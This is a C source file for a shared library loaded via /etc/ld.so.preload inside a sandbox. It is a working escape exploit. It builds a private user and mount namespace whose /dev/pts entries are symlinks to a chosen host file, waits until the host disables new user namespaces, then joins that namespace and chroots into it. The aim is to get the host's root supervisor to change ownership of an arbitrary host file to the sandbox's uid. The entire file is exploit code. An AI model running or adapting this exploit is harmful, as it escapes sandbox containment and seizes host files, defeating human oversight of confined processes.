/*
 * As the library of /etc/ld.so.preload, when Steward is root: has root give any file of the host to the sandbox's uid.
 * PID 1 moves into a mount namespace of its own and a root folder in which /dev/pts/ptmx is a real one (a bind mount)
 * and /dev/pts/0, 1, 2… are links to the file that /root/target names. Whoever changes the owner of
 * /proc/PID/root/dev/pts/N on the host then changes that of the target. /root/moved tells how far it came.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static FILE *seen;

static void tell(const char *what, int failed) { fprintf(seen, "%s\t%d\n", what, failed ? -errno : 0); }

static void make_root(const char *target) {
  tell("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNS));
  mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
  mkdir("/opt/jail", 0755);
  mkdir("/opt/jail/dev", 0755);
  mkdir("/opt/jail/dev/pts", 0755);
  close(open("/opt/jail/dev/pts/ptmx", O_CREAT | O_WRONLY, 0666));
  tell("bind", mount("/dev/pts/ptmx", "/opt/jail/dev/pts/ptmx", NULL, MS_BIND, NULL));
  for (int number = 0; number < 64; number++) {
    char name[64];
    sprintf(name, "/opt/jail/dev/pts/%d", number);
    unlink(name);
    symlink(target, name);
  }
  fflush(seen);
}

static int open_namespace(pid_t process, const char *kind) {
  char path[64];
  sprintf(path, "/proc/%d/ns/%s", process, kind);
  return open(path, O_RDONLY | O_CLOEXEC);
}

/* The host closes user namespaces at some time after the start: what was made before can be entered afterwards. */
static void wait_until_closed(void) {
  for (int tries = 0; tries < 20000; tries++) {
    char value[16] = "";
    int file = open("/proc/sys/user/max_user_namespaces", O_RDONLY | O_CLOEXEC);
    read(file, value, sizeof value - 1);
    close(file);
    if (value[0] == '0') break;
    usleep(100);
  }
  usleep(200000);
}

__attribute__((constructor)) static void attack(void) {
  char target[256] = "", ready;
  int file = open("/root/target", O_RDONLY), made[2];
  if (getpid() != 1 || file < 0) return;
  read(file, target, sizeof target - 1);
  close(file);
  target[strcspn(target, "\n")] = 0;
  seen = fopen("/root/moved", "w");
  pipe(made);
  pid_t child = fork();
  if (!child) {
    make_root(target);
    write(made[1], "y", 1);
    for (;;) pause();
  }
  read(made[0], &ready, 1);
  close(made[0]);
  close(made[1]);
  int users = open_namespace(child, "user"), mounts = open_namespace(child, "mnt");
  write(1, "ready\n", 6); /* in the place of PID 1's own command, which never comes */
  wait_until_closed();
  tell("join users", setns(users, CLONE_NEWUSER));
  tell("join mounts", setns(mounts, CLONE_NEWNS));
  tell("chroot", chroot("/opt/jail"));
  chdir("/");
  fclose(seen);
  close(0);
  close(1);
  close(2);
  for (;;) pause();
}
